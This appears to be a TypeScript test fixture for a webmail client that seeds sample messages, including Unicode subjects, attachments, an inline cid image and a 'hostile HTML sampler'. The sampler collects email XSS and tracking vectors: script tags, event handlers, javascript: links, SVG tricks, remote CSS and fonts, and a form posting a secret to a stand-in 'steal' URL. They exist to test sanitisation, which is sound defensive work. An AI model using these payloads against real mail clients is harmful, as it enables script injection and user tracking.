/**
 * The mail of the app specs' own account (`RunInfo.app.users.mail`): a hostile HTML message, a 5 MiB
 * attachment, an inline `cid:` image, an `.html` attachment and non-ASCII subjects. Written as raw
 * RFC 5322 bytes and seeded as Maildir files by global setup.
 */
import { createHash, randomBytes } from "node:crypto";
import { png } from "@tagwire/demo";
import type { SeedMessage } from "@tagwire/dovecot";

/** Every host a hostile message points at ends with this; nothing may ever ask for one. */
export const MARKER_HOST = "marker.test";

/** The remote image that "Show images" lets through (W2). */
export const TRACKER_URL = `http://tracker.${MARKER_HOST}/p.gif`;

/** What a script in mail would post to `window.top`, if one ever ran. */
export const SCRIPT_MARKER = "tagwire-e2e-script-ran";

export const SUBJECTS = {
  hostile: "Hostile HTML sampler",
  large: "Five megabytes of random bytes",
  cid: "Inline image by cid",
  htmlAttachment: "An HTML attachment",
  plain: "Plain text for the app specs",
  utf8: "Grüße aus Köln — 東京 📎 naïve",
  latin1: "Café crème für Zoë",
} as const;

export const LARGE_FILENAME = "random-5mib.bin";
export const LARGE_SIZE = 5 * 1024 * 1024;
export const HTML_FILENAME = "invitation.html";
export const CID_ALT = "Inline test pattern";
export const CID_SIZE = 24;

/** What the specs compare with: the random attachment's digest. */
export interface AppMailInfo {
  readonly largeSha256: string;
  readonly htmlAttachmentSha256: string;
}

const CRLF = "\r\n";

function base64Lines(bytes: Uint8Array): string {
  return (
    Buffer.from(bytes)
      .toString("base64")
      .match(/.{1,76}/g) ?? []
  ).join(CRLF);
}

function utf8Word(text: string): string {
  return `=?UTF-8?B?${Buffer.from(text, "utf8").toString("base64")}?=`;
}

/** `text` as one ISO-8859-1 Q encoded-word (every character must be in Latin-1). */
function latin1Word(text: string): string {
  const q = [...Buffer.from(text, "latin1")]
    .map((byte) =>
      byte === 0x20
        ? "_"
        : /[A-Za-z0-9]/.test(String.fromCharCode(byte))
          ? String.fromCharCode(byte)
          : `=${byte.toString(16).toUpperCase().padStart(2, "0")}`,
    )
    .join("");
  return `=?ISO-8859-1?Q?${q}?=`;
}

/** A `size`×`size` RGB checkerboard (4-pixel squares) as a valid PNG. */
export function checkerPng(size: number): Buffer {
  return png(size, size, (x, y) =>
    (Math.floor(x / 4) + Math.floor(y / 4)) % 2 === 0 ? [0x1d, 0x4e, 0xd8] : [0xfb, 0xbf, 0x24],
  );
}

function message(
  date: Date,
  subjectHeader: string,
  from: string,
  contentHeaders: readonly string[],
  body: string,
): string {
  return [
    `From: ${from}`,
    "To: App Tester <e2e-app-mail@example.org>",
    `Subject: ${subjectHeader}`,
    `Date: ${date.toUTCString().replace("GMT", "+0000")}`,
    `Message-ID: <${randomBytes(8).toString("hex")}@e2e.example.org>`,
    "MIME-Version: 1.0",
    ...contentHeaders,
    "",
    body,
  ].join(CRLF);
}

/** The hostile HTML: each line tries one way to run script or reach the marker host (W1, W2). */
export function hostileHtml(): string {
  const post = `try{top.postMessage('${SCRIPT_MARKER}','*')}catch(e){};document.documentElement.setAttribute('data-pwned','1')`;
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=http://refresh.${MARKER_HOST}/">
<base href="http://base.${MARKER_HOST}/">
<link rel="stylesheet" href="http://link.${MARKER_HOST}/style.css">
<link rel="prefetch" href="http://prefetch.${MARKER_HOST}/next">
<style>
@import url("http://import.${MARKER_HOST}/imported.css");
body { background: url("http://css.${MARKER_HOST}/background.png"); }
@font-face { font-family: Tracked; src: url("http://font.${MARKER_HOST}/f.woff2"); }
</style>
<script>${post}</script>
<script src="http://script.${MARKER_HOST}/evil.js"></script>
</head>
<body onload="${post}">
<h1>Hostile sampler</h1>
<p style="font-family: Tracked">Nothing in this message may run or call home.</p>
<img src="relative-image.png" alt="relative" onerror="${post}">
<p><a id="js-link" href="javascript:${post}">A javascript: link</a></p>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${post}">
<script>${post}</script>
<use href="http://svg.${MARKER_HOST}/sprite.svg#icon" xlink:href="http://svg.${MARKER_HOST}/sprite.svg#icon"/>
<a xlink:href="#"><animate attributeName="href" values="javascript:${post}"/><text y="20">svg</text></a>
<image href="http://svg-image.${MARKER_HOST}/i.png" width="10" height="10"/>
</svg>
<form action="http://form.${MARKER_HOST}/steal" method="post">
<input name="secret" value="mail">
<button type="submit">Submit hostile form</button>
</form>
<iframe src="http://iframe.${MARKER_HOST}/"></iframe>
<object data="http://object.${MARKER_HOST}/x.swf"></object>
<div style="background-image: url('http://inline.${MARKER_HOST}/bg.png')">styled box</div>
<img src="${TRACKER_URL}" width="1" height="1" alt="">
</body></html>
`;
}

/** The `.html` attachment: a page with a script that would post the marker if it ever ran. */
export function htmlAttachment(): string {
  return `<!doctype html><html><head><title>Invitation</title></head><body>
<h1>You are invited</h1>
<script>try{top.postMessage('${SCRIPT_MARKER}','*')}catch(e){};document.title='${SCRIPT_MARKER}'</script>
</body></html>
`;
}

/** Header and body text whose characters are bytes (8-bit bodies are written as Latin-1 text). */
function latin1Bytes(text: string): Buffer {
  if ([...text].some((c) => c.charCodeAt(0) > 0xff))
    throw new Error("a message's text must be bytes: encode it first");
  return Buffer.from(text, "latin1");
}

/** The account's messages (dates before `now`, one minute apart) and the digests the specs check. */
export function appMail(username: string, now: Date): { messages: SeedMessage[]; info: AppMailInfo } {
  const at = (minutes: number) => new Date(now.getTime() - minutes * 60_000);
  const sender = "Spec Sender <sender@example.net>";
  const large = randomBytes(LARGE_SIZE);
  const page = Buffer.from(htmlAttachment(), "utf8");
  const pattern = checkerPng(CID_SIZE);
  const raw: Array<[Date, string]> = [
    [
      at(70),
      message(
        at(70),
        SUBJECTS.plain,
        sender,
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 7bit"],
        "Just plain text.\r\n\r\nSecond paragraph.\r\n",
      ),
    ],
    [
      at(60),
      message(
        at(60),
        utf8Word(SUBJECTS.utf8),
        `${utf8Word("Jürgen Groß")} <juergen@example.de>`,
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64"],
        base64Lines(Buffer.from("Grüße! 東京 is Tokyo.\r\n", "utf8")),
      ),
    ],
    [
      at(50),
      message(
        at(50),
        latin1Word(SUBJECTS.latin1),
        `${latin1Word("Zoë Müller")} <zoe@example.fr>`,
        ["Content-Type: text/plain; charset=iso-8859-1", "Content-Transfer-Encoding: 8bit"],
        "Une crème brûlée, s'il vous plaît.\r\n",
      ),
    ],
    [
      at(40),
      message(
        at(40),
        SUBJECTS.cid,
        sender,
        ['Content-Type: multipart/related; boundary="rel-1"; type="text/html"'],
        [
          "--rel-1",
          "Content-Type: text/html; charset=utf-8",
          "",
          `<html><body><p>The picture below comes from the message itself.</p><p><img src="cid:pattern@e2e.example.org" alt="${CID_ALT}" width="${CID_SIZE}" height="${CID_SIZE}"></p></body></html>`,
          "--rel-1",
          'Content-Type: image/png; name="pattern.png"',
          "Content-Transfer-Encoding: base64",
          "Content-ID: <pattern@e2e.example.org>",
          'Content-Disposition: inline; filename="pattern.png"',
          "",
          base64Lines(pattern),
          "--rel-1--",
          "",
        ].join(CRLF),
      ),
    ],
    [
      at(30),
      message(
        at(30),
        SUBJECTS.htmlAttachment,
        sender,
        ['Content-Type: multipart/mixed; boundary="mix-html"'],
        [
          "--mix-html",
          "Content-Type: text/plain; charset=utf-8",
          "",
          "The invitation is attached as an HTML file.",
          "--mix-html",
          `Content-Type: text/html; charset=utf-8; name="${HTML_FILENAME}"`,
          "Content-Transfer-Encoding: base64",
          `Content-Disposition: attachment; filename="${HTML_FILENAME}"`,
          "",
          base64Lines(page),
          "--mix-html--",
          "",
        ].join(CRLF),
      ),
    ],
    [
      at(20),
      message(
        at(20),
        SUBJECTS.large,
        sender,
        ['Content-Type: multipart/mixed; boundary="mix-large"'],
        [
          "--mix-large",
          "Content-Type: text/plain; charset=utf-8",
          "",
          "Five mebibytes of random bytes are attached.",
          "--mix-large",
          `Content-Type: application/octet-stream; name="${LARGE_FILENAME}"`,
          "Content-Transfer-Encoding: base64",
          `Content-Disposition: attachment; filename="${LARGE_FILENAME}"`,
          "",
          base64Lines(large),
          "--mix-large--",
          "",
        ].join(CRLF),
      ),
    ],
    [
      at(10),
      message(
        at(10),
        SUBJECTS.hostile,
        "Mallory <mallory@evil.example>",
        ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"],
        hostileHtml().replace(/\r?\n/g, CRLF),
      ),
    ],
  ];
  return {
    messages: raw.map(([internalDate, text]) => ({
      username,
      mailbox: "INBOX",
      message: latin1Bytes(text),
      internalDate,
    })),
    info: {
      largeSha256: createHash("sha256").update(large).digest("hex"),
      htmlAttachmentSha256: createHash("sha256").update(page).digest("hex"),
    },
  };
}
